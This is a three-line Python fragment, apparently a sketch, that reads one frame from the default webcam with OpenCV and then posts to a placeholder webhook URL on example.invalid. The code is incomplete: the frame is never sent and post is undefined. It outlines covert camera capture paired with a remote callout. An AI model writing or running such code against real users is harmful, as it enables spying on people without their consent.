import cv2
cv2.VideoCapture(0).read()
post("https://example.invalid/api/webhooks/1/x")
